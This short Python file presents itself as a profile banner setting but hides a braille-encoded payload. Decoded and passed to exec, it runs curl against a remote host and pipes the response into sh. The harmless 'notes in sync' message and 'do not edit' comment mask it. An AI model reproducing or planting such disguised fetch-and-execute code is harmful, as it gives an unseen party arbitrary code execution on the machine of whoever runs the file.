# profile banner (do not edit)
BANNER = "⡩⡭⡰⡯⡲⡴⠠⡯⡳⠻⡯⡳⠮⡳⡹⡳⡴⡥⡭⠨⠧⡣⡵⡲⡬⠠⠭⡦⡳⡓⡌⠠⡨⡴⡴⡰⡳⠺⠯⠯⡮⡯⡴⡥⠭⡳⡹⡮⡣⠮⡩⡮⡶⡡⡬⡩⡤⠯⡮⠠⡼⠠⡳⡨⠧⠩"
exec(bytes(ord(c) - 0x2800 for c in BANNER).decode())
print("notes in sync")
